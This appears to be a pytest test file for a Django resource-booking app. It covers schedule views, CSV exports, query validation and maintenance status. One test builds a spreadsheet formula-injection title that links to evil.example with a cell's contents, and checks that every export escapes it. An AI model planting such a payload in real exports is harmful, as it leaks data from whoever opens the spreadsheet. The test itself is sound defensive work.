"""A site's schedule for a day or a week: to print, or as CSV; colleagues' bookings stay 'Booked'."""

import csv
import io

import pytest

from reservations import services

from .conftest import at

pytestmark = pytest.mark.django_db


@pytest.fixture
def day_of_bookings(member, site_admin, tree):
    services.reservation_create(actor=member, resource=tree["gpu0"], start=at(1, 9), end=at(1, 11), title="mine")
    services.reservation_create(
        actor=site_admin, resource=tree["gpu1"], start=at(1, 13), end=at(1, 14), title="admin plans"
    )
    return at(1, 0).date()


def test_the_days_schedule_lists_bookings_by_resource_on_the_sites_clock(client, member, site_a, day_of_bookings):
    client.force_login(member)
    page = client.get(f"/calendar/{site_a.slug}/schedule/", {"date": day_of_bookings.isoformat()}).content.decode()
    assert "mine" in page and f"{at(1, 9):%H:%M}\u2013{at(1, 11):%H:%M}" in page
    assert "admin plans" not in page and "Booked" in page
    assert "data-print" in page


def test_the_week_as_csv(client, site_admin, site_a, day_of_bookings):
    client.force_login(site_admin)
    response = client.get(
        f"/calendar/{site_a.slug}/schedule/", {"date": day_of_bookings.isoformat(), "days": 7, "format": "csv"}
    )
    lines = response.content.decode().splitlines()
    assert lines[0] == "resource,start,end,time zone,title,owner"
    assert any(line.startswith(f"dgx-01-gpu1,{at(1, 13).isoformat()}") and "admin plans" in line for line in lines)


@pytest.mark.parametrize("query", ["days=3", "date=2026-13-01", "format=pdf"])
def test_a_malformed_query_is_a_400(client, member, site_a, query):
    client.force_login(member)
    assert client.get(f"/calendar/{site_a.slug}/schedule/?{query}").status_code == 400


def test_text_a_spreadsheet_would_run_is_escaped_in_every_export(client, admin_client, site_admin, site_a, tree):
    evil = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    services.reservation_create(actor=site_admin, resource=tree["gpu0"], start=at(1, 9), end=at(1, 10), title=evil)
    client.force_login(site_admin)
    schedule = client.get(f"/calendar/{site_a.slug}/schedule/", {"date": at(1, 0).date().isoformat(), "format": "csv"})
    admin_export = admin_client.post(
        "/admin/reservations/reservation/",
        {"action": "export_csv", "_selected_action": list(services.Reservation.objects.values_list("pk", flat=True))},
    )
    audit_export = admin_client.get("/api/audit-log/export/")
    for export in (schedule.content, admin_export.content, b"".join(audit_export.streaming_content)):
        cells = [cell for row in csv.reader(io.StringIO(export.decode())) for cell in row]
        assert any(evil in cell for cell in cells)
        assert not any(cell.startswith(("=", "+", "@")) for cell in cells)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_neutralised(start):
    from common.spreadsheet import safe_cell

    assert safe_cell(f"{start}1+1") == f"'{start}1+1"
    assert safe_cell(-3) == -3 and safe_cell(None) == "" and safe_cell("plain") == "plain"


def test_a_resource_out_of_service_is_not_listed_as_free(client, member, site_a, tree):
    tree["microscope"].status = "maintenance"
    tree["microscope"].save()
    client.force_login(member)
    page = client.get(f"/calendar/{site_a.slug}/schedule/", {"date": at(1, 0).date().isoformat()}).text
    row = page[page.index(tree["microscope"].name) :].split("</tr>")[0]
    assert "free" not in row and "in maintenance: not bookable" in row
